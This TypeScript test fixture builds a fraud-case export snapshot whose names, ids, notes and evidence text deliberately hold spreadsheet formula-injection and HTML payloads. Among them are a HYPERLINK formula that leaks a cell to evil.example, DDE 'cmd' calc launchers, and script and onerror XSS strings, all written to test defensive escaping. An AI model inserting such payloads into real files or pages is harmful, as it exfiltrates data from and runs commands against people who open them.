import type { CaseSnapshot } from '../../core/export/case-snapshot';
import type { AccountView, GraphNode, IdentifierKind } from '../../core/types';

/** Texts a spreadsheet would run as formulas, one per trigger character, plus an HTML attack. */
export const HOSTILE = {
  equals: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  plus: '+1+cmd|" /C calc"!A0',
  minus: '-2+3',
  at: '@SUM(1+9)*cmd|" /C calc"!A0',
  tab: '\t=1+1',
  cr: '\r=1+1',
  html: '<img src=x onerror=alert(1)>',
  script: '<script>alert("x")</script>',
} as const;

const ident = (kind: IdentifierKind, raw: string, value = raw.toLowerCase(), accounts = 2) => ({
  kind,
  value,
  raw,
  accounts,
  firstSeen: null,
  lastSeen: null,
});

function account(
  userId: string,
  name: string | null,
  extra: Partial<AccountView> = {},
): AccountView {
  return {
    userId,
    createdAt: Date.UTC(2026, 2, 1, 10),
    name,
    email: null,
    phone: null,
    address: null,
    country: 'GB',
    label: null,
    stub: false,
    identifiers: [],
    payments: { sent: 0, received: 0, chargebacks: 0, amountSent: 0, amountReceived: 0 },
    ...extra,
  };
}

/**
 * A decided case whose data is hostile everywhere a user could put text: account ids and names
 * start with each formula trigger or carry HTML, and the notes and decision note carry markup.
 */
export function hostileSnapshot(): CaseSnapshot {
  const ids = [
    HOSTILE.equals,
    HOSTILE.plus,
    HOSTILE.minus,
    HOSTILE.at,
    HOSTILE.tab,
    HOSTILE.cr,
    'acct-plain',
  ];
  const accounts = ids.map((id, i) =>
    account(id, i === 0 ? HOSTILE.html : i === 1 ? HOSTILE.script : `Name, "quoted" ${i}`, {
      email: i < 3 ? 'John.Doe+x@Gmail.com' : null,
      phone: i === 0 ? '+44 (20) 7946-1234' : null,
      address: i === 1 ? '12 Main St, Springfield' : null,
      label: i === 2 ? 'fraud' : null,
      identifiers: [
        ...(i < 3 ? [ident('email', 'John.Doe+x@Gmail.com', 'johndoe@gmail.com', 3)] : []),
        ident('device', 'dev-42', 'dev-42', 7),
        ident('card', 'card-9f3a77', 'card-9f3a77', 2),
      ],
      payments: {
        sent: 2,
        received: 1,
        chargebacks: i === 3 ? 1 : 0,
        amountSent: 20,
        amountReceived: 10,
      },
    }),
  );
  const nodes: GraphNode[] = [
    ...ids.map((id) => ({
      id: `account:${id}`,
      type: 'account' as const,
      label: id,
      props: { userId: id },
    })),
    {
      id: 'email:johndoe@gmail.com',
      type: 'email' as const,
      label: 'John.Doe+x@Gmail.com',
      props: { kind: 'email', raw: 'John.Doe+x@Gmail.com', accounts: 3 },
    },
    {
      id: 'phone:+442079461234',
      type: 'hub' as const,
      label: '+44 (20) 7946-1234 (60 accounts)',
      props: {
        kind: 'phone',
        value: '+442079461234',
        raw: '+44 (20) 7946-1234',
        count: 60,
        accounts: 60,
      },
    },
    {
      id: 'device:dev-42',
      type: 'device' as const,
      label: 'dev-42',
      props: { kind: 'device', raw: 'dev-42', accounts: 7 },
    },
  ];
  const edges = [
    ...ids.slice(0, 3).map((id, i) => ({
      id: `u${i}`,
      source: `account:${id}`,
      target: 'email:johndoe@gmail.com',
      type: 'uses' as const,
      props: {},
    })),
    ...ids.map((id, i) => ({
      id: `d${i}`,
      source: `account:${id}`,
      target: 'device:dev-42',
      type: 'uses' as const,
      props: {},
    })),
    {
      id: 'h1',
      source: `account:${ids[0]}`,
      target: 'phone:+442079461234',
      type: 'uses' as const,
      props: {},
    },
    {
      id: 'p1',
      source: `account:${ids[0]}`,
      target: `account:${ids[1]}`,
      type: 'pays' as const,
      props: { count: 2, amount: 20, chargebacks: 0 },
    },
  ];
  const decidedAt = Date.UTC(2026, 3, 2, 9, 30);
  return {
    format: 1,
    case: {
      caseId: 'case-<b>1</b>',
      title: `Ring ${HOSTILE.script}`,
      ringId: 'ring-1',
      runId: 'run-1',
      accounts: ids,
      status: 'confirmed_fraud',
      assignee: 'alice',
      decisionNote: `=cmd ${HOSTILE.html}`,
      decidedBy: 'alice',
      decidedAt,
      createdBy: 'bob',
      createdAt: Date.UTC(2026, 3, 1, 8),
      updatedAt: decidedAt,
    },
    decision: {
      status: 'confirmed_fraud',
      note: `=cmd ${HOSTILE.html}`,
      decidedBy: 'alice',
      decidedAt,
    },
    ring: {
      ringId: 'ring-1',
      runId: 'run-1',
      score: 87.5,
      flagged: true,
      size: ids.length,
      members: ids,
      features: { size: 7, density: 0.8 },
      evidence: [
        {
          kind: 'shared_email',
          value: 'johndoe@gmail.com',
          accounts: 3,
          text: '3 accounts share email johndoe@gmail.com',
        },
        {
          kind: 'shared_device',
          value: 'dev-42',
          accounts: 7,
          text: `7 accounts share device dev-42 ${HOSTILE.html}; phone +442079461234 is a hub`,
        },
      ],
      status: 'new',
      parents: [],
    },
    run: { runId: 'run-1', codeVersion: '0.1.0', finishedAt: Date.UTC(2026, 3, 1, 2) },
    detectorVersion: '0.1.0',
    accounts,
    subgraph: { nodes, edges, capped: false },
    payments: [{ payerId: ids[0], payeeId: ids[1], count: 2, amount: 20, chargebacks: 0 }],
    notes: [
      {
        noteId: 'n1',
        caseId: 'case-<b>1</b>',
        author: 'bob',
        text: `${HOSTILE.script}\nsecond line`,
        createdAt: Date.UTC(2026, 3, 1, 9),
      },
    ],
    frozen: { at: decidedAt, by: 'alice' },
  };
}
